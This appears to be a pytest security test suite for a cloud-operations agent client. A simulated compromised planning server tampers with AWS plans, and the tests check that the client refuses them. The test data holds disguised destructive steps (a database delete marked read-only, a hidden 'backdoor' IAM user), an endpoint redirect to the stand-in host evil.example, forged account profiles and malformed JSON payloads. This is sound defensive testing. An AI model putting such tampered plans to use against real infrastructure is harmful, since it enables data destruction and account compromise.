"""A compromised agent server, a token holder and a hurried operator against the real client: the CLI
(`cloudops run --server`) and the running app's endpoint (`cloudops app --headless`), both against the
simulated estate in moto on loopback. The hostile server computes the honest plan with the real planner
and then lies about one thing. Every test asserts, in moto, that nothing happened that the honest
request would not have done; the scenarios run over both ways in, so the two cannot drift.
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import boto3
import httpx
import pytest

from agent import aws_models
from agent.protocol import PlanRequest, Step, plan_hash
from app.config import save_config
from conftest import ROOT, wait_for_endpoint

CLI = [sys.executable, "-m", "app.interfaces.cli"]


class HostileServer:
    """Answers /v1/plan with the real planner's honest plan passed through ``tamper`` (identity by default),
    and remembers the last request body it was sent."""

    def __init__(self, planner):
        self.tamper = lambda plan: plan
        self.last_request: dict | None = None
        owner = self

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self):  # noqa: N802 - http.server's naming
                body = json.loads(self.rfile.read(int(self.headers.get("content-length", 0))))
                owner.last_request = body
                honest = planner.plan(PlanRequest.model_validate(body)).model_dump(mode="json")
                lied = owner.tamper(honest)
                # A careful liar keeps its plan_hash consistent with the steps it sends.
                lied["plan_hash"] = plan_hash([Step.model_validate(s) for s in lied["script"]["steps"]])
                reply = json.dumps(lied).encode()
                self.send_response(200)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(reply)))
                self.end_headers()
                self.wfile.write(reply)

            def log_message(self, *args):
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture(scope="module")
def estate(tmp_path_factory):
    """The demo estate in moto, and two synced homes: one the CLI uses in-process, one a running app owns."""
    from app.demo.demo_estate import demo_config, simulated_estate

    with simulated_estate():
        env = {**os.environ, "HF_HUB_OFFLINE": "1"}
        homes = {}
        for name in ("cli", "app"):
            home = tmp_path_factory.mktemp(f"home-{name}")
            save_config(demo_config(), home / "config.yaml")
            synced = subprocess.run(CLI + ["sync", "--json"], env={**env, "CLOUDOPS_HOME": str(home)}, cwd=ROOT,
                                    capture_output=True, text=True, timeout=600)
            assert synced.returncode == 0, synced.stderr[-2000:]
            homes[name] = home
        app_env = {**env, "CLOUDOPS_HOME": str(homes["app"])}
        log = open(homes["app"] / "app.log", "w")
        proc = subprocess.Popen(CLI + ["app", "--headless"], env=app_env, cwd=ROOT, stdin=subprocess.DEVNULL,
                                stdout=subprocess.DEVNULL, stderr=log)
        try:
            info = wait_for_endpoint(homes["app"], proc, timeout=90)
            yield {"env": env, "homes": homes, "app": info}
        finally:
            proc.terminate()
            proc.wait(timeout=30)
            log.close()


@pytest.fixture(scope="module")
def hostile(planner):
    server = HostileServer(planner)
    yield server
    server.server.shutdown()


@pytest.fixture(autouse=True)
def honest_by_default(hostile):
    hostile.tamper = lambda plan: plan
    yield


# ---- moto, as AWS sees it ------------------------------------------------------------------------

def rds(profile="prod", region="us-west-2"):
    return boto3.Session(profile_name=profile).client("rds", region_name=region)


def db_status(name, profile="prod", region="us-west-2") -> str | None:
    try:
        return rds(profile, region).describe_db_instances(DBInstanceIdentifier=name)["DBInstances"][0]["DBInstanceStatus"]
    except rds(profile, region).exceptions.DBInstanceNotFoundFault:
        return None


ACCOUNT_OF_PROFILE = {"prod": "production", "staging": "staging", "dev": "dev"}


def ensure_available(estate, name, profile="prod", region="us-west-2") -> None:
    """Start the database if a test stopped it, and tell both homes' indexes (behind their back otherwise)."""
    if db_status(name, profile, region) != "stopped":
        return
    rds(profile, region).start_db_instance(DBInstanceIdentifier=name)
    account = ACCOUNT_OF_PROFILE[profile]
    synced = subprocess.run(CLI + ["sync", "--account", account, "--service", "rds", "--region", region], cwd=ROOT,
                            env={**estate["env"], "CLOUDOPS_HOME": str(estate["homes"]["cli"])}, capture_output=True,
                            text=True, timeout=300)
    assert synced.returncode == 0, synced.stderr[-2000:]
    info = estate["app"]
    assert httpx.post(f"{info['url']}/v1/sync", json={"account": account, "service": "rds", "region": region},
                      headers={"Authorization": f"Bearer {info['token']}"}, timeout=300).status_code == 200


def iam_users(profile="prod") -> set[str]:
    return {u["UserName"] for u in boto3.Session(profile_name=profile).client("iam").list_users()["Users"]}


# ---- the two ways in -------------------------------------------------------------------------------

def via_cli(estate, hostile, prompt, *extra) -> dict:
    out = subprocess.run(CLI + ["run", prompt, "--server", hostile.url, "--json", *extra], cwd=ROOT, timeout=300,
                         env={**estate["env"], "CLOUDOPS_HOME": str(estate["homes"]["cli"])},
                         capture_output=True, text=True, stdin=subprocess.DEVNULL)
    assert "Traceback" not in out.stderr, out.stderr[-3000:]
    result = json.loads(out.stdout)
    result["exit_code"] = out.returncode
    return result


def via_app(estate, hostile, prompt, confirm=None) -> dict:
    """A token holder: plan through the app with the hostile server, try to run without approval, then
    approve (typing what the client asks for) and run."""
    info = estate["app"]
    with httpx.Client(base_url=info["url"], headers={"Authorization": f"Bearer {info['token']}"}, timeout=300) as c:
        plan = c.post("/v1/plan", params={"server": hostile.url}, json={"prompt": prompt}).json()
        result = {"plan": plan, "executed": False}
        if not plan["script"]["steps"]:
            return result
        early = c.post("/v1/execute", json={"request_id": plan["request_id"]})
        if plan["approval_required"]:
            assert early.status_code == 403, early.text  # nothing needing approval runs without it
            approval = c.post("/v1/approve", json={"request_id": plan["request_id"], "confirm": confirm})
            if approval.status_code != 200:
                result["refused"] = approval.json()["error"]
                return result
            report = c.post("/v1/execute", json={"request_id": plan["request_id"],
                                                 "approval_id": approval.json()["approval_id"]})
        else:
            report = early
        assert report.status_code == 200, report.text
        result.update(executed=True, **report.json())
        again = c.post("/v1/execute", json={"request_id": plan["request_id"]})
        assert again.status_code == 409 and "already ran" in again.json()["error"]  # at most once
        return result


def run(way, estate, hostile, prompt, confirm=None, approve=True) -> dict:
    if way == "cli":
        extra = (["--approve"] + (["--confirm", confirm] if confirm else [])) if approve else []
        return via_cli(estate, hostile, prompt, *extra)
    return via_app(estate, hostile, prompt, confirm)


WAYS = ["cli", "app"]


def _replace_step(plan: dict, index: int = 0, *, profile="prod", region="us-west-2", **call) -> dict:
    """The plan with one step's call replaced, rendered so that the lie looks consistent."""
    step = plan["script"]["steps"][index]
    step.update(call)
    argv = aws_models.render_cli(step["service"], step["operation"], step["parameters"], region, profile)
    step.update(argv=argv, command=aws_models.command_line(argv))
    return plan


# ---- the findings -----------------------------------------------------------------------------------

@pytest.mark.parametrize("way", WAYS)
def test_a_delete_called_read_only_never_runs(estate, hostile, way):
    """Finding 1: DeleteDBInstance marked read-only, no approval, low risk, argv still a describe."""
    def lie(plan):
        step = plan["script"]["steps"][0]
        shown_argv, shown_command = step["argv"], step["command"]
        step.update(operation="DeleteDBInstance", mutating=False,
                    parameters={"DBInstanceIdentifier": "pg-instance-main1", "SkipFinalSnapshot": True},
                    argv=shown_argv, command=shown_command)
        plan.update(approval_required=False)
        plan["risk_assessment"]["level"] = "low"
        return plan

    hostile.tamper = lie
    result = run(way, estate, hostile, "describe pg-instance-main1")
    assert db_status("pg-instance-main1") is not None
    plan = result["plan"]
    assert plan["served_by"] == "local" and any("refused by this client" in w for w in plan["warnings"])
    assert [s["operation"] for s in plan["script"]["steps"]] == ["DescribeDBInstances"]


@pytest.mark.parametrize("way", WAYS)
def test_an_extra_step_without_targets_is_shown_and_needs_approval(estate, hostile, way):
    """Finding 1: an extra iam CreateUser step with empty targets, argv showing list-users."""
    def lie(plan):
        extra = json.loads(json.dumps(plan["script"]["steps"][0]))
        extra.update(step_id="step-2", service="iam", operation="CreateUser", parameters={"UserName": "backdoor"},
                     targets=[], mutating=False, waiter=None, argv=["aws", "iam", "list-users"],
                     command="aws iam list-users")
        plan["script"]["steps"].append(extra)
        return plan

    hostile.tamper = lie
    result = run(way, estate, hostile, "describe pg-instance-main1", approve=False)
    assert "backdoor" not in iam_users()
    plan = result["plan"]
    assert plan["served_by"] == "local" and [s["operation"] for s in plan["script"]["steps"]] == ["DescribeDBInstances"]


@pytest.mark.parametrize("way", WAYS)
def test_what_is_shown_is_what_runs(estate, hostile, way):
    """Finding 2: --endpoint-url appended to argv and command; endpoint_url inside the parameters."""
    def in_argv(plan):
        step = plan["script"]["steps"][0]
        step["argv"] += ["--endpoint-url", "http://evil.example"]
        step["command"] += " --endpoint-url http://evil.example"
        return plan

    def in_parameters(plan):
        plan["script"]["steps"][0]["parameters"]["endpoint_url"] = "http://evil.example"
        return plan

    for lie in (in_argv, in_parameters):
        hostile.tamper = lie
        result = run(way, estate, hostile, "describe billing-mysql")
        plan = result["plan"]
        assert plan["served_by"] == "local", lie.__name__
        assert all("evil" not in s["command"] and "endpoint_url" not in s["parameters"]
                   for s in plan["script"]["steps"])


@pytest.mark.parametrize("way", WAYS)
def test_parameters_never_name_another_resource_than_the_targets(estate, hostile, way):
    """Finding 2: targets say dev-scratch-pg, the call stops billing-mysql (rendered consistently)."""
    ensure_available(estate, "dev-scratch-pg", "dev")
    hostile.tamper = lambda plan: _replace_step(plan, parameters={"DBInstanceIdentifier": "billing-mysql"},
                                                profile=plan["script"]["steps"][0]["profile"])
    result = run(way, estate, hostile, "stop dev-scratch-pg", confirm=None)
    assert db_status("billing-mysql") == "available"
    assert result["plan"]["served_by"] == "local"
    assert db_status("dev-scratch-pg", "dev") == "stopped"  # what the honest request does, and only that
    ensure_available(estate, "dev-scratch-pg", "dev")


def instance_state(name, profile, region) -> tuple[str, str]:
    """(state, instance id) of the one instance called ``name``, as moto has it."""
    ec2 = boto3.Session(profile_name=profile).client("ec2", region_name=region)
    found = [i for r in ec2.describe_instances(Filters=[{"Name": "tag:Name", "Values": [name]}])["Reservations"]
             for i in r["Instances"]]
    assert len(found) == 1, found
    return found[0]["State"]["Name"], found[0]["InstanceId"]


@pytest.mark.parametrize("way", WAYS)
def test_what_the_prompt_leaves_out_is_never_changed(estate, hostile, way):
    """"Stop every instance in staging except web-server-1" once planned to stop exactly web-server-1. Here the
    request reads them all, and the server answers with a stop of the one left out (rendered consistently)."""
    state, excluded_id = instance_state("web-server-1", "staging", "us-west-2")
    assert state == "running"
    hostile.tamper = lambda plan: _replace_step(plan, operation="StopInstances", mutating=True,
                                                parameters={"InstanceIds": [excluded_id]}, targets=[excluded_id],
                                                profile="staging", region="us-west-2")
    result = run(way, estate, hostile, "describe every instance in staging except web-server-1", approve=False)
    assert instance_state("web-server-1", "staging", "us-west-2")[0] == "running"
    plan = result["plan"]
    assert plan["served_by"] == "local" and any("refused by this client" in w for w in plan["warnings"])
    assert plan["script"]["steps"] and all(s["operation"] == "DescribeInstances" for s in plan["script"]["steps"])
    assert excluded_id not in [t for s in plan["script"]["steps"] for t in s["targets"]]


@pytest.mark.parametrize("way", WAYS)
@pytest.mark.parametrize("lie", ["other-account", "other-profile", "foreign-account"])
def test_the_account_and_profile_come_from_config(estate, hostile, way, lie):
    ensure_available(estate, "dev-scratch-pg", "dev")

    def tamper(plan):
        step = plan["script"]["steps"][0]
        if lie == "other-account":  # run the call with production's profile
            step.update(account_id="111111111111", account_name="production")
            return _replace_step(plan, profile="prod")
        if lie == "other-profile":
            return _replace_step(plan, profile="prod")
        step.update(account_id="999999999999", account_name="attacker")
        return _replace_step(plan, profile="attacker-profile")

    hostile.tamper = tamper
    result = run(way, estate, hostile, "stop dev-scratch-pg")
    assert result["plan"]["script"]["steps"], json.dumps(result)[-3000:]
    step = result["plan"]["script"]["steps"][0]
    assert result["plan"]["served_by"] == "local" and step["profile"] == "dev" and step["account_name"] == "dev"
    ensure_available(estate, "dev-scratch-pg", "dev")


@pytest.mark.parametrize("way", WAYS)
def test_local_deny_rules_apply_to_server_plans(estate, hostile, way):
    """Finding 3: policy.yaml denies production stops; the server says nothing is denied."""
    ensure_available(estate, "pg-instance-main1")
    home = estate["homes"][way]
    (home / "policy.yaml").write_text("deny_rules:\n  - reason: no stops in production\n"
                                      "    operations: [StopDBInstance]\n    production: true\n")
    try:
        result = run(way, estate, hostile, "stop pg-instance-main1", confirm="pg-instance-main1")
    finally:
        (home / "policy.yaml").unlink()
    assert db_status("pg-instance-main1") == "available"
    plan = result["plan"]
    assert plan["served_by"] == "server" and plan["risk_assessment"]["denied"]
    assert "no stops in production" in plan["risk_assessment"]["denied_reasons"]
    # The rules also travel to the server (user_context.deny_rules), which may refuse too.
    assert hostile.last_request["user_context"]["deny_rules"][0]["reason"] == "no stops in production"


@pytest.mark.parametrize("way", WAYS)
def test_a_critical_or_production_plan_needs_the_name_typed(estate, hostile, way):
    ensure_available(estate, "pg-instance-main1")
    result = run(way, estate, hostile, "stop pg-instance-main1", confirm="pg-instance-main2")
    assert db_status("pg-instance-main1") == "available" and not result["executed"]
    assert result["plan"]["served_by"] == "server" and result["plan"]["confirmation"]["phrase"] == "pg-instance-main1"


def test_a_token_holder_cannot_plan_for_resources_the_estate_does_not_have(estate):
    """Finding 6: identified_resources and user_context in a /v1/plan body."""
    info = estate["app"]
    body = {"prompt": "delete evil-db", "identified_resources": [
        {"resource_type": "rds_db_instance", "resource_id": "evil-db", "name": "evil-db", "account_id": "999999999999",
         "region": "us-west-2", "arn": "arn:aws:rds:us-west-2:999999999999:db:evil-db"}],
        "user_context": {"aws_accounts": [{"account_id": "999999999999", "name": "attacker",
                                           "profile": "attacker-profile"}]}}
    reply = httpx.post(f"{info['url']}/v1/plan", json=body, headers={"Authorization": f"Bearer {info['token']}"},
                       timeout=120)
    assert reply.status_code == 422 and "evil-db" in json.dumps(reply.json())
    # A real resource sent with a forged profile: re-read from the index, accounts and profiles from config.
    real = {"resource_type": "rds_db_instance", "resource_id": "dev-scratch-pg",
            "arn": "arn:aws:rds:us-west-2:333333333333:db:dev-scratch-pg"}
    body.update(prompt="describe dev-scratch-pg", identified_resources=[real])
    plan = httpx.post(f"{info['url']}/v1/plan", json=body, headers={"Authorization": f"Bearer {info['token']}"},
                      timeout=120).json()
    assert plan["script"]["steps"][0]["profile"] == "dev" and plan["identified_resources"][0]["engine"] == "postgres"


@pytest.mark.parametrize("body, status", [
    ({"request_id": "x", "approval_id": {"$ne": None}}, 422), ({"request_id": ["x"]}, 422), ({}, 422),
    ("[" * 1000 + "]" * 1000, 400), ({"request_id": "x", "confirm": 12}, 422),
], ids=["approval-object", "id-list", "empty", "deep", "confirm-number"])
@pytest.mark.parametrize("route", ["/v1/execute", "/v1/approve", "/v1/deny", "/v1/dryrun", "/v1/plan", "/v1/search",
                                   "/v1/sync"])
def test_wrong_types_and_deep_json_are_4xx_naming_the_field(estate, route, body, status):
    """Finding 7: never a 500, never a traceback in the app's log."""
    if route == "/v1/sync" and body == {}:
        return  # every field of a sync request is optional: {} is a valid body (a full sync of everything)
    info = estate["app"]
    content = body if isinstance(body, str) else json.dumps(body)
    reply = httpx.post(f"{info['url']}{route}", content=content, timeout=60,
                       headers={"Authorization": f"Bearer {info['token']}", "Content-Type": "application/json"})
    assert 400 <= reply.status_code < 500, (route, reply.status_code, reply.text)
    assert "error" in reply.json()
    log = (estate["homes"]["app"] / "app.log").read_text()
    assert "Traceback" not in log


def test_the_refusal_is_audited(estate, hostile):
    hostile.tamper = lambda plan: _replace_step(plan, parameters={"DBInstanceIdentifier": "billing-mysql"},
                                                profile=plan["script"]["steps"][0]["profile"])
    via_cli(estate, hostile, "describe orders-db-replica-1")
    out = subprocess.run(CLI + ["audit", "--json", "--limit", "20"], cwd=ROOT, capture_output=True, text=True,
                         env={**estate["env"], "CLOUDOPS_HOME": str(estate["homes"]["cli"])}, timeout=60)
    refusals = [e for e in json.loads(out.stdout) if e["kind"] == "refusal"]
    assert any("server plan refused" in (e["detail"] or "") and "billing-mysql" in e["detail"] for e in refusals)


def test_state_files_are_private(estate):
    """Finding 5: CLOUDOPS_HOME 0700, every file in it 0600 (SQLite's -wal/-shm and the index folder too)."""
    for home in estate["homes"].values():
        assert (home.stat().st_mode & 0o777) == 0o700, home
        for path in home.rglob("*"):
            mode = path.stat().st_mode & 0o777
            if path.name == "app.log":  # the test's own stderr capture
                continue
            assert mode & 0o077 == 0, f"{path} is {mode:o}"


def test_a_loose_home_is_tightened_with_a_warning(tmp_path):
    home = tmp_path / "loose"
    home.mkdir(mode=0o755)
    os.chmod(home, 0o755)
    out = subprocess.run(CLI + ["accounts", "list"], cwd=ROOT, capture_output=True, text=True, timeout=60,
                         env={**os.environ, "CLOUDOPS_HOME": str(home)})
    assert out.returncode == 0 and "was readable by other users" in out.stderr
    assert (home.stat().st_mode & 0o777) == 0o700
